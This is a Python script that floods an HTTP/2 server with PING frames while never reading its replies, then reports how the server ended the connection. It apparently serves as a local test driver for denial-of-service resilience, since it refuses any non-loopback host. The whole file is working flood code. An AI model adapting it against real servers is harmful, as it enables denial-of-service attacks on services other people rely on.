#!/usr/bin/env python3
"""HTTP/2 PING flood from a client that never reads: over TLS (ALPN h2) or h2c with prior knowledge.

Sends the preface, an empty SETTINGS, then PING frames in batches of 1000 until the server stops reading
or ends the connection, with a 4 KiB receive buffer; stays connected without reading until SECONDS have
passed, then reads and prints how the connection ended (GOAWAY and its code, a reset, or still open). Refuses any host that is not a loopback address.

    ping_flood.py host port tls|h2c seconds
"""
import ipaddress
import socket
import ssl
import struct
import sys
import time

GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(host, port, tls):
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    raw.connect((host, port))
    if not tls:
        return raw
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    if s.selected_alpn_protocol() != "h2":
        sys.exit("server did not negotiate h2")
    return s


def ending(s):
    """How the server ended the connection: reads (for 5 s at most) until a GOAWAY or the end."""
    s.settimeout(5)
    buf = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return "closed without GOAWAY"
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[0:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, payload = buf[3], buf[9:9 + length]
                buf = buf[9 + length:]
                if kind == 7:
                    code = int.from_bytes(payload[4:8], "big")
                    return "GOAWAY " + GOAWAY_CODES.get(code, str(code))
    except socket.timeout:
        return "still open"
    except (ConnectionError, ssl.SSLError) as e:
        return "reset (" + type(e).__name__ + ")"


def main():
    host, port, mode, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    if not ipaddress.ip_address(socket.gethostbyname(host)).is_loopback:
        sys.exit("refusing " + host + ": this driver only targets loopback addresses")
    s = connect(host, port, mode == "tls")
    batch = frame(6, 0, 0, b"\0" * 8) * 1000
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    s.settimeout(1)
    sent, end, stalled = 0, time.monotonic() + seconds, "never"
    while time.monotonic() < end:
        try:
            s.sendall(batch)
            sent += 1000
        except socket.timeout:
            # the server stopped reading; a TLS write cut by a timeout cannot be resumed, so stop writing
            # and stay connected without reading until the time is up
            stalled = f"after {sent} pings"
            time.sleep(max(0.0, end - time.monotonic()))
        except (ConnectionError, ssl.SSLError):
            stalled = f"closed by the server after {sent} pings"
            break
    print(f"pings sent: {sent}; writes stalled: {stalled}; the connection: {ending(s)}")
    s.close()


if __name__ == "__main__":
    main()
